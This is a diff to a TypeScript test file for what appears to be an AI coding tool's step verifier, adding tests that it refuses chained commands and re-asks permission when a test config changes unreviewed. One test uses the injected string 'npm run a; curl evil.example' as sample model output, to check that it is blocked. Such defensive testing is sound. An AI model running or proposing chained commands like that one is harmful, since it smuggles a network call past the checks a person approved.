@@ -7,12 +7,14 @@ import type { Check } from '../../../../../src/core/work/verify/find/check.ts';
 import type { CheckRun } from '../../../../../src/core/work/verify/judge/checkRun.ts';
 import type { CodeProblem, ProblemReading } from '../../../../../src/core/work/verify/judge/codeProblem.ts';
 import type { LookGap } from '../../../../../src/core/work/verify/lookGap.ts';
+import { partOf } from '../../../../../src/core/work/verify/command/commandDefinition.ts';
 import { createStepVerifier } from '../../../../../src/core/work/verify/createStepVerifier.ts';
 import type {
   StepUnderTest,
   StepVerdict,
   VerifyProgress,
 } from '../../../../../src/core/work/verify/stepVerifier.ts';
+import { withDefinition } from '../../../support/projects.ts';
 
 const run = (exitCode: number, output = ''): CheckRun => ({
   ending: 'exited',
@@ -22,18 +24,12 @@ const run = (exitCode: number, output = ''): CheckRun => ({
 });
 const ended = (ending: CheckRun['ending']): CheckRun => ({ ending, output: '', durationMs: 1 });
 const passes = run(0);
-const types = foundCheck({
-  name: 'Type check',
-  kind: 'types',
-  checksTypeScript: true,
-  command: 'tsc',
-  cwd: '',
-  definition: 'v1',
-});
-const tests = foundCheck({ name: 'Tests', kind: 'tests', command: 'npm test', cwd: '', definition: 'v1' });
-const lint = foundCheck({ name: 'Lint', kind: 'lint', command: 'eslint', cwd: '', definition: 'v1' });
-const newTests = foundCheck({
-  ...{ name: 'New tests', kind: 'tests', command: 'jest new.test.ts', cwd: '', definition: 'v1' },
+const found = (check: Parameters<typeof foundCheck>[0]): Check => withDefinition(foundCheck(check), 'v1');
+const types = found({ name: 'Type check', kind: 'types', checksTypeScript: true, command: 'tsc', cwd: '' });
+const tests = found({ name: 'Tests', kind: 'tests', command: 'npm test', cwd: '' });
+const lint = found({ name: 'Lint', kind: 'lint', command: 'eslint', cwd: '' });
+const newTests = found({
+  ...{ name: 'New tests', kind: 'tests', command: 'jest new.test.ts', cwd: '' },
   scope: 'new-tests',
 });
 const error = (path: string): CodeProblem => ({
@@ -73,7 +69,7 @@ function world() {
         return state.answer;
       },
       store: { get: (key) => store.get(key), set: async (key, value) => void store.set(key, value) },
-      fingerprint: (text) => `#${text}`,
+      hash: (text) => `#${text}`,
       isTrusted: () => state.isTrusted,
     }),
     readProblems: async (_step, when, _signal, onFiles) => {
@@ -85,6 +81,7 @@ function world() {
       if (gap !== undefined) onGap(gap);
       return state.checks;
     },
+    define: async (checks) => checks.map((check) => withDefinition(check, 'v1')),
     saveFiles: async (except) => state.unsaved.filter((path) => except.includes(path)),
     treeHash: async () => state.tree,
     run: async (check) => {
@@ -393,6 +390,17 @@ describe('verifying a step', () => {
     );
   });
 
+  it('names beside a pass the commands of a model that were refused, and runs nothing of them', async () => {
+    const { ran, verify } = world();
+    const { verdict, evidence } = await verify({ acceptance: ['`npm run a; curl evil.example` passes'] });
+    assert.equal(verdict, 'pass');
+    assert.deepEqual([...new Set(ran)], ['tsc', 'npm test']);
+    assert.ok(
+      evidence.some(({ title }) => title.endsWith('"npm run a; curl evil.example" (it has the operator ;)')),
+      JSON.stringify(evidence),
+    );
+  });
+
   it('names beside a pass the checks that could not run', async () => {
     const { state, verify } = world();
     state.runs['npm test'] = [run(127)];
@@ -446,10 +454,30 @@ describe('verifying a step', () => {
     );
     await verify({ stepId: 's2' });
     assert.equal(asked.length, 2);
-    state.checks = [types, { ...tests, definition: 'v2' }];
+    state.checks = [types, withDefinition(tests, 'v2')];
     await verify({ stepId: 's3' });
     assert.equal(asked.length, 3);
     assert.equal(asked[2]?.isChanged, true);
+  });
+
+  it('asks no second question for what the person has accepted as a diff, and does for what nobody has seen', async () => {
+    for (const isAcceptedByPerson of [true, false]) {
+      const { state, asked, verify } = world();
+      const configured = (text: string): Check => ({
+        ...tests,
+        definition: {
+          parts: new Map([['jest.config.js', partOf('jest.config.js', { digest: `#${text}`, text })]]),
+          unfollowed: [],
+        },
+      });
+      state.checks = [configured('a')];
+      await verify();
+      assert.equal(asked.length, 1);
+      state.checks = [configured('b')];
+      const changes = [{ path: 'jest.config.js', before: 'a', after: 'b' }];
+      await verify({ stepId: 's2', changes, isAcceptedByPerson });
+      assert.equal(asked.length, isAcceptedByPerson ? 1 : 2);
+    }
   });
 
   it('asks for every step what may run once, and never again in the plan what may not', async () => {
